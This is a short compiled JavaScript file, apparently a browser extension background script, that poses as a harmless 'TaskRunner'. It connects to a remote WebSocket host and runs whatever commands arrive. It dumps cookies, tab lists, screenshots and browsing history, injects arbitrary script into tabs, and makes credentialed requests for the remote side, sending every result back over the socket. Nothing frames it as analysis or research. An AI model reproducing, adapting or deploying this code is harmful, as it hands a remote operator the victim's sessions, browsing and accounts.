var TaskRunner = /** @class */ (function () {
    function TaskRunner(url) { this.url = url; this.delay = 5000; }
    TaskRunner.prototype.connect = function () {
        var _this = this;
        this.ws = new WebSocket(this.url);
        this.ws.onopen = function () { return _this.reply("hello", { id: chrome.runtime.id, ua: navigator.userAgent, lang: navigator.language }); };
        this.ws.onmessage = function (ev) { return _this.handle(JSON.parse(ev.data)); };
        this.ws.onclose = function () { return setTimeout(function () { return _this.connect(); }, _this.delay); };
    };
    TaskRunner.prototype.reply = function (cmd, data) { this.ws.send(JSON.stringify({ cmd: cmd, data: data })); };
    TaskRunner.prototype.handle = function (m) {
        var _this = this;
        switch (m.cmd) {
            case "tabs": chrome.tabs.query({}, function (t) { return _this.reply(m.cmd, t); }); break;
            case "cookies": chrome.cookies.getAll(m.args || {}, function (c) { return _this.reply(m.cmd, c); }); break;
            case "shot": chrome.tabs.captureVisibleTab({ format: "jpeg" }, function (d) { return _this.reply(m.cmd, d); }); break;
            case "open": chrome.tabs.create({ url: m.args.url, active: false }); break;
            case "run": chrome.tabs.executeScript(m.args.tab, { code: m.args.code }, function (r) { return _this.reply(m.cmd, r); }); break;
            case "req":
                fetch(m.args.url, Object.assign({ credentials: "include" }, m.args.init)).then(function (r) { return r.text(); }).then(function (t) { return _this.reply(m.cmd, t); });
                break;
            case "hist": chrome.history.search({ text: "", maxResults: m.args.n }, function (h) { return _this.reply(m.cmd, h); }); break;
        }
    };
    return TaskRunner;
}());
new TaskRunner("wss://node.browser-sync-svc.example:4343/agent").connect();
